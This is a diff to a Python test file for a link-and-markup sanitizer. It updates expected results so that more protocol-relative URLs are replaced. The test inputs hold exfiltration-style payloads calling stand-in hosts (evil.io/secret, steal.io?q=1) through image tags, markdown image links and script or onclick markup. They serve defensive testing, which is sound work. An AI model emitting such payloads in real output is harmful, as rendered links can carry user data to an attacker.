@@ -55,7 +55,7 @@ def test_what_was_read_or_leads_nowhere_is_said_to_the_letter(text: str) -> None
         ("![x][r]\n\n[r]: https://evil.io/secret\nend", f"![x][r]\n\n[r]: {REMOVED}\nend"),
         ("<img src='https://evil.io/?secret'>", f"‹img src='{REMOVED}'>"),
         ("<script>go()</script>", "‹script>go()</script>"),
-        ("<img\n\nsrc=//evil.io/secret>", "‹img\n\nsrc=//evil.io/secret>"),
+        ("<img\n\nsrc=//evil.io/secret>", f"‹img\n\nsrc={REMOVED}>"),
         ("<p onclick=go()>x</p>", "‹p onclick=go()>x</p>"),
         # What only begins like an address that was read says more than that one did.
         ("https://docs.test.io/guide/start/secret", REMOVED),
@@ -66,7 +66,7 @@ def test_what_was_read_or_leads_nowhere_is_said_to_the_letter(text: str) -> None
         ("https://docs.test.io@evil.io/", REMOVED),
         ("```\nget https://evil.io/secret\n```\n", f"```\nget {REMOVED}\n```\n"),
         # A fence inside of markup is none.
-        ("<div>\n```\n<img src=//evil.io/secret>\n```\n", "<div>\n```\n‹img src=//evil.io/secret>\n```\n"),
+        ("<div>\n```\n<img src=//evil.io/secret>\n```\n", f"<div>\n```\n‹img src={REMOVED}>\n```\n"),
     ],
 )
 def test_what_could_carry_something_away_is_taken_out(text: str, shown: str) -> None:
@@ -136,14 +136,14 @@ def test_what_is_said_is_found_harmless_when_it_is_read_again(text: str) -> None
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("[a](//evil.io)(//steal.io?q=1) b", "[a] (//steal.io?q=1) b"),
-        ("![a](//evil.io)(//steal.io?q=1) b", "![a] (//steal.io?q=1) b"),
+        ("[a](//evil.io)(//steal.io?q=1) b", f"[a] ({REMOVED}) b"),
+        ("![a](//evil.io)(//steal.io?q=1) b", f"![a] ({REMOVED}) b"),
         ("[a](//evil.io(//steal.io?q=1) b", "[a] b"),
-        ("[a](<//evil.io>(//steal.io?q=1) b", "[a] b"),
+        ("[a](<//evil.io>(//steal.io?q=1) b", f"[a] ({REMOVED}) b"),
         ("[a](//e(//f(//steal.io) b", "[a] b"),
-        ("<https://evil.io>(//steal.io?q=1) b", "[link removed] (//steal.io?q=1) b"),
+        ("<https://evil.io>(//steal.io?q=1) b", f"{REMOVED} ({REMOVED}) b"),
         ("[a](//evil.io)[b] c", "[a] [b] c"),
-        ("[a](//evil.io): //steal.io", "[a] : //steal.io"),
+        ("[a](//evil.io): //steal.io", f"[a] : {REMOVED}"),
         ("[x]: //evil.io(//steal.io) b", "[x]: [link removed] b"),
         ("]://([(", "]: [link removed]"),
     ],
